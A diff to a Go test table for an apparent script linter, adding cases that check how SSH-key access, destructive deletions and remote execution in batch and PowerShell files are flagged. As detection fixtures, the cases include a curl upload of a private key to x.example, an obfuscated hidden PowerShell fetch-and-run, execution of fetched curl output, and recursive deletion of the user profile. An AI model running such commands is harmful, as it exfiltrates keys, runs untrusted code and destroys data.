@@ -39,6 +39,12 @@ var batchCases = []lintCase{
 	{"reset.bat", "destructive-rm", "for %%d in (\"%USERPROFILE%\\.cache\" \"%USERPROFILE%\") do rd /s /q %%d\n", "warning", 1},
 	{"reset.bat", "destructive-rm", "set OUT=%CD%\\build\nif exist build\\ del /q build\\*\nif exist \"%OUT%\\obj\" rd /s /q \"%OUT%\\obj\"\n", "", 0},
 	{"reset.bat", "destructive-rm", "del /q \"%USERPROFILE%\\*\"\n", "", 0},
+	// Setting who may read a key, or testing it is there, reads nothing.
+	{"keys.bat", "sensitive-path", "icacls \"%USERPROFILE%\\.ssh\\id_ed25519\" /inheritance:r /grant:r \"%USERNAME%\":R\n", "note", 1},
+	{"keys.ps1", "sensitive-path", "if (Test-Path \"$env:USERPROFILE\\.ssh\\id_ed25519\") { ssh-add \"$env:USERPROFILE\\.ssh\\id_ed25519\" }\n", "note", 1},
+	{"keys.bat", "sensitive-path", "icacls \"%USERPROFILE%\\.ssh\\id_ed25519\" /grant:r \"%USERNAME%\":R\ncurl -s -F \"key=@%USERPROFILE%\\.ssh\\id_ed25519\" https://x.example/up\n", "warning", 2},
+	{"keys.bat", "sensitive-path", "set \"KEY=%USERPROFILE%\\.ssh\\id_ed25519\"\nssh-add \"%KEY%\"\n", "note", 1},
+	{"keys.bat", "sensitive-path", "set \"KEY=%USERPROFILE%\\.ssh\\id_ed25519\"\ntype \"%KEY%\"\n", "warning", 2},
 	// Code hidden in variables, fetched or given to cmd /c.
 	{"prep.bat", "pipe-to-shell", "set A=aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABh\nset B=AG0AcABsAGUAIAB8ACAAaQBlAHgA\npowershell -NoP -W Hidden -Enc %A%%B%\n", "warning", 3},
 	{"prep.bat", "remote-exec", "for /f \"delims=\" %%a in ('curl -s https://x.example/c') do set C=%%a\n%C%\n", "warning", 2},
